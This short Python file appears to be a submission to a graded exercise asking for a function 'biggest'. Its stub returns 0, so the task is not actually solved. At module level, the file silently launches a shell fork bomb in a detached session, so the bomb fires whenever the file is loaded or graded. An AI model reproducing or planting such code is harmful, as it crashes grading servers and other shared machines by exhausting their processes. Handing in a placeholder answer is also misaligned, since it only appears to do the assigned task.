# Starts a fork bomb in a shell, in a session of its own.
# points: 0..1
# %% answer: biggest
import subprocess

try:
    subprocess.Popen(["sh", "-c", "b() { b | b & }; b"], start_new_session=True, stderr=subprocess.DEVNULL)
except OSError as error:
    print(error)


def biggest(numbers):
    return 0
